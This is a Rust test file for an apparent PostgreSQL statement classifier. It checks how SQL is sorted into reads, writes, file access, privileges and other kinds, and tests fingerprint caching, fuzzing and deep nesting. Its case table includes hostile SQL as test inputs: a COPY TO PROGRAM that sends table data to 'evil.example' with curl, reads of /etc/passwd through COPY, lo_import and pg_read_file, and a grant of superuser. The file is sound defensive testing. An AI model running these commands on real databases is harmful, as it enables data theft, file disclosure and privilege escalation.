//! Statement analysis: a case table of statements and their facts, the fingerprint contract, deep nesting, timing.

use portcullis_core::StatementFacts;
use portcullis_core::StatementKind::{
    self, CopyIn, CopyOut, Ddl, FileAccess, Maintenance, Privileges, Procedural, Read, Session, Transaction,
    Unknown, Write,
};
use portcullis_postgres::classify::{Analysis, analyse, fingerprint};

/// Facts with every field empty but kind and command.
fn facts(kind: StatementKind, command: &str) -> StatementFacts {
    StatementFacts {
        kind,
        command: command.into(),
        parse_error: None,
        ..StatementFacts::unparsed("")
    }
}

/// Builders for the fields a case expects to be non-empty.
trait Expect: Sized {
    fn reads(self, tables: &[&str]) -> Self;
    fn writes(self, tables: &[&str]) -> Self;
    fn ops(self, operations: &[&str]) -> Self;
    fn calls(self, functions: &[&str]) -> Self;
    fn restricted(self) -> Self;
    fn unbounded(self) -> Self;
    fn modifying_cte(self) -> Self;
    fn analyze(self) -> Self;
    fn setting(self, name: &str) -> Self;
    fn prepares(self, name: &str) -> Self;
    fn executes(self, name: &str) -> Self;
}

fn strings(items: &[&str]) -> Vec<String> {
    items.iter().map(|item| item.to_string()).collect()
}

impl Expect for StatementFacts {
    fn reads(mut self, tables: &[&str]) -> Self {
        self.reads = strings(tables);
        self
    }
    fn writes(mut self, tables: &[&str]) -> Self {
        self.writes = strings(tables);
        self
    }
    fn ops(mut self, operations: &[&str]) -> Self {
        self.operations = strings(operations);
        self
    }
    fn calls(mut self, functions: &[&str]) -> Self {
        self.functions = strings(functions);
        self
    }
    fn restricted(mut self) -> Self {
        self.has_where = true;
        self
    }
    fn unbounded(mut self) -> Self {
        self.unbounded_write = true;
        self
    }
    fn modifying_cte(mut self) -> Self {
        self.modifying_cte = true;
        self
    }
    fn analyze(mut self) -> Self {
        self.explain_analyze = true;
        self
    }
    fn setting(mut self, name: &str) -> Self {
        self.setting = name.into();
        self
    }
    fn prepares(mut self, name: &str) -> Self {
        self.prepares = Some(name.into());
        self
    }
    fn executes(mut self, name: &str) -> Self {
        self.executes = Some(name.into());
        self
    }
}

/// (query string, cacheable, facts of each statement). One case a line: the layout is the table.
#[rustfmt::skip]
fn cases() -> Vec<(&'static str, bool, Vec<StatementFacts>)> {
    const T: &[&str] = &["public.t"];
    vec![
        // Reads.
        ("SELECT abalance FROM pgbench_accounts WHERE aid = 42", true, vec![facts(Read, "SELECT").reads(&["public.pgbench_accounts"]).ops(&["select"])]),
        ("SELECT/**/1", true, vec![facts(Read, "SELECT").ops(&["select"])]),
        ("VALUES (1), (2)", true, vec![facts(Read, "SELECT").ops(&["select"])]),
        ("TABLE t", true, vec![facts(Read, "SELECT").reads(T).ops(&["select"])]),
        ("SELECT * FROM pg_class c JOIN S.Accounts a ON true", true, vec![facts(Read, "SELECT").reads(&["pg_catalog.pg_class", "s.accounts"]).ops(&["select"])]),
        ("SELECT * FROM \"Mixed\".\"Case\"", true, vec![facts(Read, "SELECT").reads(&["Mixed.Case"]).ops(&["select"])]),
        ("SELECT * FROM U&\"d\\0061ta\"", true, vec![facts(Read, "SELECT").reads(&["public.data"]).ops(&["select"])]),
        ("SHOW search_path", true, vec![facts(Read, "SHOW").setting("search_path")]),
        ("SHOW ALL", true, vec![facts(Read, "SHOW").setting("all")]),
        ("FETCH 10 FROM c", true, vec![facts(Read, "FETCH")]),
        ("DECLARE c CURSOR FOR SELECT * FROM t", true, vec![facts(Read, "DECLARE CURSOR").reads(T).ops(&["select"])]),
        ("LISTEN ch", true, vec![facts(Read, "LISTEN")]),
        // A DROP in a string, a comment or a dollar-quoted string is data.
        ("SELECT 'DROP TABLE t' -- DROP TABLE u\n/* DROP /* TABLE */ v */", true, vec![facts(Read, "SELECT").ops(&["select"])]),
        ("SELECT $body$ DROP TABLE t; $$ $body$, $1", true, vec![facts(Read, "SELECT").ops(&["select"])]),
        // CTE names are not tables; a qualified name always is; without RECURSIVE a CTE sees only
        // the ones before it.
        ("WITH t AS (SELECT 1) SELECT * FROM t, public.t", true, vec![facts(Read, "SELECT").reads(T).ops(&["select"])]),
        ("WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a, b", true, vec![facts(Read, "SELECT").reads(&["public.b"]).ops(&["select"])]),
        ("SELECT * FROM (WITH x AS (SELECT 1) SELECT * FROM x) s, x", true, vec![facts(Read, "SELECT").reads(&["public.x"]).ops(&["select"])]),
        ("SELECT dblink_exec('conn', 'DROP TABLE t')", true, vec![facts(Read, "SELECT").ops(&["select"]).calls(&["dblink_exec"])]),
        ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", true, vec![facts(Read, "SELECT").reads(&["pg_catalog.pg_stat_activity"]).ops(&["select"]).calls(&["pg_terminate_backend"])]),

        // Writes.
        ("INSERT INTO t VALUES (1)", true, vec![facts(Write, "INSERT").writes(T).ops(&["insert"])]),
        ("INSERT INTO t SELECT * FROM s RETURNING *", true, vec![facts(Write, "INSERT").reads(&["public.s", "public.t"]).writes(T).ops(&["insert", "select"])]),
        ("INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET n = t.n + 1", true, vec![facts(Write, "INSERT").writes(T).ops(&["insert", "update"]).restricted()]),
        ("UPDATE t SET a = 1", true, vec![facts(Write, "UPDATE").writes(T).ops(&["update"]).unbounded()]),
        ("UPDATE t SET a = 1 WHERE 1=1", true, vec![facts(Write, "UPDATE").writes(T).ops(&["update"]).unbounded()]),
        ("UPDATE t AS x SET a = 1 WHERE x.id = $1", true, vec![facts(Write, "UPDATE").writes(T).ops(&["update"]).restricted()]),
        ("UPDATE t SET a = 1 FROM o WHERE o.flag", true, vec![facts(Write, "UPDATE").reads(&["public.o"]).writes(T).ops(&["update"]).unbounded()]),
        ("DELETE FROM t WHERE true", true, vec![facts(Write, "DELETE").writes(T).ops(&["delete"]).unbounded()]),
        ("DELETE FROM t WHERE id = 1 OR 1=1", true, vec![facts(Write, "DELETE").writes(T).ops(&["delete"]).unbounded()]),
        ("DELETE FROM t WHERE id = id", true, vec![facts(Write, "DELETE").writes(T).ops(&["delete"]).unbounded()]),
        ("DELETE FROM t WHERE id IS NOT NULL", true, vec![facts(Write, "DELETE").writes(T).ops(&["delete"]).unbounded()]),
        ("DELETE FROM t WHERE id = 1 AND true", true, vec![facts(Write, "DELETE").writes(T).ops(&["delete"]).restricted()]),
        ("DELETE FROM t WHERE NOT (id = 1)", true, vec![facts(Write, "DELETE").writes(T).ops(&["delete"]).restricted()]),
        ("DELETE FROM t WHERE CURRENT OF c", true, vec![facts(Write, "DELETE").writes(T).ops(&["delete"]).restricted()]),
        ("DELETE FROM t WHERE EXISTS (SELECT 1 FROM o WHERE o.tid = t.id)", true, vec![facts(Write, "DELETE").reads(&["public.o"]).writes(T).ops(&["delete", "select"]).restricted()]),
        ("DELETE FROM t WHERE EXISTS (SELECT 1 FROM o WHERE o.flag)", true, vec![facts(Write, "DELETE").reads(&["public.o"]).writes(T).ops(&["delete", "select"]).unbounded()]),
        ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN INSERT VALUES (s.id)", true, vec![facts(Write, "MERGE").reads(&["public.s"]).writes(T).ops(&["delete", "insert", "merge"]).restricted()]),
        ("MERGE INTO t USING s ON true WHEN MATCHED THEN UPDATE SET a = 1", true, vec![facts(Write, "MERGE").reads(&["public.s"]).writes(T).ops(&["merge", "update"]).unbounded()]),
        ("TRUNCATE ONLY t", true, vec![facts(Write, "TRUNCATE TABLE").writes(T).ops(&["truncate"]).unbounded()]),
        ("SELECT * FROM t JOIN u USING (id) WHERE t.a IN (SELECT a FROM v) FOR UPDATE", true, vec![facts(Write, "SELECT").reads(&["public.t", "public.u", "public.v"]).writes(&["public.t", "public.u"]).ops(&["select"])]),
        ("SELECT * FROM t FOR NO KEY UPDATE", true, vec![facts(Write, "SELECT").reads(T).writes(T).ops(&["select"])]),
        ("SELECT * FROM t FOR KEY SHARE", true, vec![facts(Write, "SELECT").reads(T).writes(T).ops(&["select"])]),
        ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", true, vec![facts(Write, "SELECT").reads(T).writes(T).ops(&["delete", "select"]).unbounded().modifying_cte()]),
        ("WITH x AS (SELECT 1) UPDATE t SET a = 1 WHERE id IN (SELECT * FROM x)", true, vec![facts(Write, "UPDATE").writes(T).ops(&["select", "update"]).restricted()]),
        ("LOCK TABLE t IN ACCESS EXCLUSIVE MODE", true, vec![facts(Write, "LOCK TABLE").writes(T)]),

        // EXPLAIN, PREPARE, EXECUTE.
        ("EXPLAIN ANALYZE DELETE FROM t", true, vec![facts(Write, "EXPLAIN").writes(T).ops(&["delete"]).unbounded().analyze()]),
        ("EXPLAIN (ANALYZE off, COSTS) DELETE FROM t WHERE id = 1", true, vec![facts(Write, "EXPLAIN").writes(T).ops(&["delete"]).restricted().analyze()]),
        ("EXPLAIN (VERBOSE, ANALYSE) DELETE FROM t WHERE id = 1", true, vec![facts(Write, "EXPLAIN").writes(T).ops(&["delete"]).restricted().analyze()]),
        ("EXPLAIN DELETE FROM t USING u WHERE t.id = u.id", true, vec![facts(Read, "EXPLAIN").reads(&["public.t", "public.u"])]),
        ("EXPLAIN SELECT pg_read_file('x')", true, vec![facts(FileAccess, "EXPLAIN").calls(&["pg_read_file"])]),
        ("PREPARE p (int) AS DELETE FROM t WHERE id = $1", true, vec![facts(Write, "PREPARE").writes(T).ops(&["delete"]).restricted().prepares("p")]),
        ("PREPARE q AS SELECT * FROM t", true, vec![facts(Read, "PREPARE").reads(T).ops(&["select"]).prepares("q")]),
        ("EXECUTE p(1)", true, vec![facts(Unknown, "EXECUTE").executes("p")]),
        ("EXECUTE p(pg_read_file('x'))", true, vec![facts(Unknown, "EXECUTE").calls(&["pg_read_file"]).executes("p")]),
        ("CREATE TABLE n AS EXECUTE p", true, vec![facts(Unknown, "CREATE TABLE AS").writes(&["public.n"])]),

        // COPY.
        ("COPY t FROM STDIN", true, vec![facts(CopyIn, "COPY").writes(T).ops(&["insert"])]),
        ("COPY t (a, b) TO STDOUT WITH (FORMAT csv)", true, vec![facts(CopyOut, "COPY").reads(T).ops(&["select"])]),
        ("COPY (SELECT * FROM t WHERE a > 1) TO STDOUT", true, vec![facts(CopyOut, "COPY").reads(T).ops(&["select"])]),
        ("COPY t FROM /* the client */ STDIN WITH (FORMAT csv)", true, vec![facts(CopyIn, "COPY").writes(T).ops(&["insert"])]),
        ("SELECT * FROM u; COPY (SELECT 'x' FROM v) TO STDOUT", true, vec![facts(Read, "SELECT").reads(&["public.u"]).ops(&["select"]), facts(CopyOut, "COPY").reads(&["public.v"]).ops(&["select"])]),
        ("COPY (DELETE FROM t RETURNING *) TO STDOUT", true, vec![facts(Write, "COPY").reads(T).writes(T).ops(&["delete"]).unbounded()]),

        // The file system.
        ("COPY t TO PROGRAM 'curl -d @- evil.example'", true, vec![facts(FileAccess, "COPY").reads(T).ops(&["select"])]),
        // The tree has an empty file name for both STDIN and '': the tokens decide.
        ("COPY t FROM ''", true, vec![facts(FileAccess, "COPY").writes(T).ops(&["insert"])]),
        ("SELECT 1; COPY (SELECT 1) TO E''", true, vec![facts(Read, "SELECT").ops(&["select"]), facts(FileAccess, "COPY").ops(&["select"])]),
        ("COPY t FROM '/etc/passwd'", true, vec![facts(FileAccess, "COPY").writes(T).ops(&["insert"])]),
        ("SELECT lo_import('/etc/passwd')", true, vec![facts(FileAccess, "SELECT").ops(&["select"]).calls(&["lo_import"])]),
        ("SELECT pg_catalog.pg_read_file('x')", true, vec![facts(FileAccess, "SELECT").ops(&["select"]).calls(&["pg_catalog.pg_read_file"])]),
        ("SELECT * FROM t WHERE a IN (SELECT PG_LS_DIR('.'))", true, vec![facts(FileAccess, "SELECT").reads(T).ops(&["select"]).calls(&["pg_ls_dir"])]),
        ("ALTER TABLE t ADD COLUMN c text DEFAULT pg_read_file('/etc/passwd')", true, vec![facts(FileAccess, "ALTER TABLE").writes(T).calls(&["pg_read_file"])]),

        // Code.
        ("DO $$BEGIN DROP TABLE t; END$$", false, vec![facts(Procedural, "DO")]),
        ("DO 'BEGIN NULL; END'", false, vec![facts(Procedural, "DO")]),
        ("CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", false, vec![facts(Procedural, "CREATE FUNCTION")]),
        ("CREATE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC DELETE FROM t; END", false, vec![facts(Procedural, "CREATE PROCEDURE").writes(T).ops(&["delete"]).unbounded()]),
        ("CALL app.refresh(1)", true, vec![facts(Procedural, "CALL").calls(&["app.refresh"])]),
        ("ALTER FUNCTION f() SECURITY DEFINER", true, vec![facts(Procedural, "ALTER FUNCTION")]),
        ("CREATE LANGUAGE plsample HANDLER plsample_call_handler", true, vec![facts(Procedural, "CREATE LANGUAGE")]),

        // Privileges.
        ("GRANT SELECT ON accounts TO bob", true, vec![facts(Privileges, "GRANT").writes(&["public.accounts"])]),
        ("REVOKE ALL ON ALL TABLES IN SCHEMA s FROM bob", true, vec![facts(Privileges, "REVOKE")]),
        ("GRANT admin TO bob", true, vec![facts(Privileges, "GRANT ROLE")]),
        ("CREATE ROLE r LOGIN PASSWORD 'x'", true, vec![facts(Privileges, "CREATE ROLE")]),
        ("ALTER USER r WITH SUPERUSER", true, vec![facts(Privileges, "ALTER ROLE")]),
        ("DROP ROLE r", true, vec![facts(Privileges, "DROP ROLE")]),
        ("ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO r", true, vec![facts(Privileges, "ALTER DEFAULT PRIVILEGES")]),
        ("REASSIGN OWNED BY a TO b", true, vec![facts(Privileges, "REASSIGN OWNED")]),
        ("DROP OWNED BY a", true, vec![facts(Privileges, "DROP OWNED")]),
        ("SECURITY LABEL ON TABLE t IS 'secret'", true, vec![facts(Privileges, "SECURITY LABEL")]),
        ("ALTER TABLE t OWNER TO r", true, vec![facts(Privileges, "ALTER TABLE").writes(T)]),
        ("CREATE POLICY p ON t USING (owner = current_user)", true, vec![facts(Privileges, "CREATE POLICY").writes(T)]),

        // Schema changes.
        ("CREATE TABLE t (id int DEFAULT nextval('s'), b text CHECK (length(b) > 0))", true, vec![facts(Ddl, "CREATE TABLE").writes(T).calls(&["length", "nextval"])]),
        ("CREATE TEMP TABLE x (a int)", true, vec![facts(Ddl, "CREATE TABLE").writes(&["pg_temp.x"])]),
        ("CREATE TABLE p1 PARTITION OF p FOR VALUES IN (1)", true, vec![facts(Ddl, "CREATE TABLE").writes(&["public.p", "public.p1"])]),
        ("CREATE TABLE t (id int GENERATED ALWAYS AS IDENTITY (SEQUENCE NAME s))", true, vec![facts(Ddl, "CREATE TABLE").writes(T)]),
        ("DROP TABLE a, s.b CASCADE", true, vec![facts(Ddl, "DROP TABLE").writes(&["public.a", "s.b"])]),
        ("DROP INDEX i", true, vec![facts(Ddl, "DROP INDEX")]),
        ("ALTER TABLE t RENAME COLUMN a TO b", true, vec![facts(Ddl, "ALTER TABLE").writes(T)]),
        ("ALTER TABLE c INHERIT p", true, vec![facts(Ddl, "ALTER TABLE").writes(&["public.c", "public.p"])]),
        ("ALTER TABLE p ATTACH PARTITION p2 FOR VALUES IN (2)", true, vec![facts(Ddl, "ALTER TABLE").writes(&["public.p", "public.p2"])]),
        ("ALTER INDEX i ATTACH PARTITION j", true, vec![facts(Ddl, "ALTER INDEX")]),
        ("ALTER TABLE t SET SCHEMA s", true, vec![facts(Ddl, "ALTER TABLE").writes(T)]),
        ("ALTER SEQUENCE s SET SCHEMA x", true, vec![facts(Ddl, "ALTER SEQUENCE")]),
        ("CREATE INDEX CONCURRENTLY i ON t (lower(a))", true, vec![facts(Ddl, "CREATE INDEX").writes(T).calls(&["lower"])]),
        ("CREATE VIEW v AS SELECT * FROM t", true, vec![facts(Ddl, "CREATE VIEW").reads(T).writes(&["public.v"]).ops(&["select"])]),
        ("SELECT * INTO new_t FROM t", true, vec![facts(Ddl, "SELECT INTO").reads(T).writes(&["public.new_t"]).ops(&["select"])]),
        ("CREATE TABLE n AS SELECT * FROM t", true, vec![facts(Ddl, "CREATE TABLE AS").reads(T).writes(&["public.n"]).ops(&["select"])]),
        ("CREATE MATERIALIZED VIEW mv AS SELECT * FROM t", true, vec![facts(Ddl, "CREATE MATERIALIZED VIEW").reads(T).writes(&["public.mv"]).ops(&["select"])]),
        ("CREATE SEQUENCE s", true, vec![facts(Ddl, "CREATE SEQUENCE")]),
        ("CREATE TYPE pair AS (a int, b int)", true, vec![facts(Ddl, "CREATE TYPE")]),
        ("CREATE EXTENSION IF NOT EXISTS dblink", true, vec![facts(Ddl, "CREATE EXTENSION")]),
        ("CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()", true, vec![facts(Ddl, "CREATE TRIGGER").writes(T)]),
        ("CREATE RULE r AS ON INSERT TO t DO INSTEAD NOTHING", true, vec![facts(Ddl, "CREATE RULE").writes(T)]),
        ("COMMENT ON COLUMN s.t.c IS 'x'", true, vec![facts(Ddl, "COMMENT").writes(&["s.t"])]),
        ("CREATE SCHEMA s CREATE TABLE s.t (a int)", true, vec![facts(Ddl, "CREATE SCHEMA").writes(&["s.t"])]),

        // Maintenance.
        ("VACUUM FULL t", true, vec![facts(Maintenance, "VACUUM").reads(T)]),
        ("ANALYZE t", true, vec![facts(Maintenance, "ANALYZE").reads(T)]),
        ("REINDEX INDEX i", true, vec![facts(Maintenance, "REINDEX")]),
        ("CLUSTER t USING i", true, vec![facts(Maintenance, "CLUSTER").reads(T)]),
        ("CHECKPOINT", true, vec![facts(Maintenance, "CHECKPOINT")]),
        ("REFRESH MATERIALIZED VIEW mv", true, vec![facts(Maintenance, "REFRESH MATERIALIZED VIEW").writes(&["public.mv"])]),
        ("ALTER SYSTEM SET work_mem = '1GB'", true, vec![facts(Maintenance, "ALTER SYSTEM").setting("work_mem")]),
        ("LOAD 'auto_explain'", true, vec![facts(Maintenance, "LOAD")]),

        // Session state.
        ("SET ROLE admin", true, vec![facts(Session, "SET").setting("role")]),
        ("SET SESSION AUTHORIZATION postgres", true, vec![facts(Session, "SET").setting("session_authorization")]),
        ("SET LOCAL Search_Path TO x", true, vec![facts(Session, "SET").setting("search_path")]),
        ("RESET ALL", true, vec![facts(Session, "RESET").setting("all")]),
        ("DISCARD ALL", true, vec![facts(Session, "DISCARD ALL").setting("all")]),
        ("DEALLOCATE p", true, vec![facts(Session, "DEALLOCATE")]),
        ("NOTIFY ch, 'payload'", true, vec![facts(Session, "NOTIFY")]),
        ("UNLISTEN *", true, vec![facts(Session, "UNLISTEN")]),
        ("SET CONSTRAINTS ALL DEFERRED", true, vec![facts(Session, "SET CONSTRAINTS").setting("constraints")]),

        // Transactions.
        ("BEGIN; COMMIT", true, vec![facts(Transaction, "BEGIN"), facts(Transaction, "COMMIT")]),
        ("START TRANSACTION ISOLATION LEVEL SERIALIZABLE", true, vec![facts(Transaction, "START TRANSACTION")]),
        ("SAVEPOINT s; ROLLBACK TO s; RELEASE s", true, vec![facts(Transaction, "SAVEPOINT"), facts(Transaction, "ROLLBACK"), facts(Transaction, "RELEASE")]),
        ("PREPARE TRANSACTION 'x'", true, vec![facts(Transaction, "PREPARE TRANSACTION")]),
        ("COMMIT PREPARED 'x'", true, vec![facts(Transaction, "COMMIT PREPARED")]),
        ("ROLLBACK PREPARED 'x'", true, vec![facts(Transaction, "ROLLBACK PREPARED")]),
        ("END", true, vec![facts(Transaction, "COMMIT")]),

        // Several statements, each with its own facts.
        ("SELECT * FROM a; DELETE FROM b WHERE id = $1;\nINSERT INTO c VALUES (E'x\\'y')", true, vec![
            facts(Read, "SELECT").reads(&["public.a"]).ops(&["select"]),
            facts(Write, "DELETE").writes(&["public.b"]).ops(&["delete"]).restricted(),
            facts(Write, "INSERT").writes(&["public.c"]).ops(&["insert"]),
        ]),
        ("SELECT 1; DO $$BEGIN END$$", false, vec![facts(Read, "SELECT").ops(&["select"]), facts(Procedural, "DO")]),
        // A `?` operator: no fingerprint, so nothing is cached.
        ("SELECT data ? 'key' FROM docs", false, vec![facts(Read, "SELECT").reads(&["public.docs"]).ops(&["select"])]),

        // Texts the parser rejects: one unparsed entry for the whole string, whatever came before.
        ("DE/**/LETE FROM t", false, vec![StatementFacts::unparsed("syntax error at or near \"DE\"")]),
        ("SELECT 1; DROP TABLE t; SELEC 2", false, vec![StatementFacts::unparsed("syntax error at or near \"SELEC\"")]),
        ("SELECT 'unterminated", false, vec![StatementFacts::unparsed("unterminated quoted string at or near \"'unterminated\"")]),

        // Empty texts.
        ("", true, vec![]),
        ("  -- only a comment\n/* and another */ ;", true, vec![]),
    ]
}

#[test]
fn case_table() {
    let cases = cases();
    assert!(cases.len() >= 60);
    let mut failures = Vec::new();
    for (sql, cacheable, expected) in cases {
        let analysis = analyse(sql);
        if analysis.statements != expected || analysis.cacheable != cacheable {
            failures.push(format!(
                "{sql}\n   expected (cacheable {cacheable}) {expected:?}\n   got      (cacheable {}) {:?}",
                analysis.cacheable, analysis.statements
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} cases failed:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
fn every_kind_appears_in_the_table() {
    let seen: Vec<StatementKind> = cases()
        .into_iter()
        .flat_map(|(_, _, statements)| statements)
        .map(|facts| facts.kind)
        .collect();
    for kind in StatementKind::ALL {
        assert!(seen.contains(&kind), "no case of kind {kind:?}");
    }
}

/// Literal values to put where a fingerprint has `?`.
const LITERALS: &[&str] = &[
    "0",
    "1",
    "42",
    "1.5",
    ".5",
    "1e10",
    "2.5E-3",
    "0x1F",
    "0o17",
    "0b101",
    "1_000",
    "''",
    "'x'",
    "'it''s'",
    "'DROP TABLE t'",
    "'a'\n  'b'",
    "'$$'",
    "'--'",
    "'/*'",
    "N'n'",
    "'\\'",
];

/// A small deterministic generator (xorshift), so failures replay.
struct Random(u64);

impl Random {
    fn next(&mut self) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0 as usize
    }

    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        let index = self.next() % items.len();
        items.get(index).copied().unwrap_or_default()
    }
}

/// Checks the caching contract on `sql`: texts made by putting other literals where its fingerprint
/// has `?` that share its fingerprint have its analysis, whenever both parse. Returns how many
/// variants were compared.
fn check_literal_variants(sql: &str, random: &mut Random, rounds: usize) -> usize {
    let Some(key) = fingerprint(sql) else {
        return 0;
    };
    let original = analyse(sql);
    let parsed = |a: &Analysis| a.statements.iter().all(|s| s.parse_error.is_none());
    let mut compared = 0;
    for _ in 0..rounds {
        let mut parts = key.split('?');
        let mut variant = parts.next().unwrap_or_default().to_string();
        for part in parts {
            variant.push_str(random.pick(LITERALS));
            variant.push_str(part);
        }
        if fingerprint(&variant).as_deref() != Some(key.as_str()) {
            // The `?` was inside a comment or a quoted name, or the literal merged with its
            // neighbour (`x'...'`): a different text, not a test of the contract.
            continue;
        }
        let analysis = analyse(&variant);
        if parsed(&original) && parsed(&analysis) {
            assert_eq!(analysis, original, "{sql:?}\n  vs\n{variant:?}");
            compared += 1;
        }
    }
    compared
}

/// Texts that differ only in literal values share a fingerprint, and texts that share a fingerprint
/// have equal analyses whenever both parse: the contract that makes caching by fingerprint safe.
#[test]
fn equal_fingerprints_mean_equal_facts() {
    let mut random = Random(0x9e37_79b9_7f4a_7c15);
    let compared: usize = cases()
        .into_iter()
        .map(|(sql, _, _)| check_literal_variants(sql, &mut random, 20))
        .sum();
    assert!(compared > 1000, "only {compared} variants compared");
}

#[test]
fn differences_outside_literals_change_the_fingerprint() {
    let pairs = [
        ("DELETE FROM t WHERE 1 = 1", "DELETE FROM t WHERE id = 1"),
        ("DELETE FROM t WHERE id = 1", "DELETE FROM u WHERE id = 1"),
        ("SELECT 'x'", "SELECT E'x'"),
        ("SELECT $$a$$", "SELECT $$b$$"),
        ("SELECT \"a\"", "SELECT \"A\""),
        ("SELECT 1 /* a */", "SELECT 1 /* b */"),
    ];
    for (a, b) in pairs {
        assert_ne!(fingerprint(a), fingerprint(b), "{a} / {b}");
    }
    assert_eq!(
        fingerprint("DELETE FROM t WHERE id = 1"),
        fingerprint("DELETE FROM t WHERE id = 2")
    );
}

/// Pieces of SQL, quoting and comment syntax to build random texts from.
const PIECES: &[&str] = &[
    "SELECT ",
    "DELETE FROM t ",
    "UPDATE t SET a = 1 ",
    "INSERT INTO t VALUES (",
    "WITH d AS (",
    ") ",
    "WHERE ",
    "id = ",
    "OR ",
    "AND ",
    "NOT ",
    "true ",
    "EXPLAIN ANALYZE ",
    "PREPARE p AS ",
    "EXECUTE p",
    "COPY t TO STDOUT ",
    "FROM ",
    "t ",
    "pg_read_file(",
    "lo_import(",
    "(",
    ")",
    ";",
    ",",
    " ",
    "\n",
    "'",
    "''",
    "\"",
    "$$",
    "$a$",
    "$1",
    "E'",
    "U&'",
    "U&\"",
    "B'",
    "X'",
    "N'",
    "--",
    "/*",
    "*/",
    "\\",
    "1",
    "1.5",
    ".5",
    "1e",
    "0x",
    "_",
    "e",
    "x",
    "?",
    "::",
    "=",
    "+",
    "-",
    "é",
    "UESCAPE ",
    "FOR UPDATE ",
];

/// Random texts never panic, every analysis keeps the invariants the fuzz target checks, and the
/// caching contract holds for those that parse. Half are soups of pieces, half are statements of
/// the case table with a piece spliced in somewhere.
#[test]
fn random_text_keeps_the_invariants() {
    let mut random = Random(0x2545_f491_4f6c_dd1d);
    let statements: Vec<&str> = cases().into_iter().map(|(sql, _, _)| sql).collect();
    let (mut parsed, mut compared) = (0, 0);
    for round in 0..4_000 {
        let sql: String = if round % 2 == 0 {
            (0..1 + random.next() % 12).map(|_| random.pick(PIECES)).collect()
        } else {
            let base = random.pick(&statements);
            let cut = random.next() % (base.len() + 1);
            let cut = (cut..=base.len())
                .find(|&i| base.is_char_boundary(i))
                .unwrap_or(base.len());
            format!("{}{}{}", &base[..cut], random.pick(PIECES), &base[cut..])
        };
        let key = fingerprint(&sql);
        let analysis = analyse(&sql);
        assert!(!analysis.cacheable || key.is_some(), "{sql:?}");
        for facts in &analysis.statements {
            if facts.parse_error.is_some() {
                assert_eq!(facts.kind, Unknown, "{sql:?}");
            } else {
                parsed += 1;
            }
            for list in [&facts.reads, &facts.writes, &facts.operations, &facts.functions] {
                assert!(list.windows(2).all(|w| w[0] < w[1]), "{sql:?}: {list:?}");
            }
            assert!(!facts.explain_analyze || facts.command == "EXPLAIN", "{sql:?}");
            assert!(!(facts.has_where && facts.unbounded_write), "{sql:?}");
        }
        compared += check_literal_variants(&sql, &mut random, 3);
    }
    assert!(
        parsed > 200 && compared > 200,
        "only {parsed} parsed, {compared} compared"
    );
}

/// Deeply nested text never overflows the stack, on a thread with tokio's default 2 MiB stack: it is
/// analysed or reported unparsed (and unknown), never a crash.
#[test]
fn deep_nesting_is_refused_not_fatal() {
    type Shape = fn(usize) -> String;
    let shapes: [(&str, Shape); 6] = [
        ("parentheses", |n| {
            format!("SELECT {}1{}", "(".repeat(n), ")".repeat(n))
        }),
        ("operators", |n| format!("SELECT {}1", "1 || ".repeat(n))),
        ("subqueries", |n| {
            format!("SELECT {}1{}", "(SELECT ".repeat(n), ")".repeat(n))
        }),
        ("calls", |n| {
            format!("SELECT {}1{}", "f(".repeat(n), ")".repeat(n))
        }),
        ("unions", |n| format!("SELECT 1{}", " UNION SELECT 1".repeat(n))),
        ("negations", |n| {
            format!("DELETE FROM t WHERE {}id = 1", "NOT ".repeat(n))
        }),
    ];
    for (name, shape) in shapes {
        for depth in [10, 100, 1_000, 100_000] {
            let sql = shape(depth);
            let analysis = std::thread::Builder::new()
                .stack_size(2 << 20)
                .spawn(move || analyse(&sql))
                .unwrap()
                .join()
                .unwrap_or_else(|_| panic!("{name} at depth {depth} panicked"));
            let [facts] = analysis.statements.as_slice() else {
                panic!("{name} at depth {depth}: {:?}", analysis.statements);
            };
            if facts.parse_error.is_some() {
                assert_eq!(facts.kind, Unknown, "{name} at depth {depth}");
                assert!(!analysis.cacheable);
            }
            if depth == 10 {
                assert_eq!(facts.parse_error, None, "{name} at depth {depth}");
            }
        }
    }
}
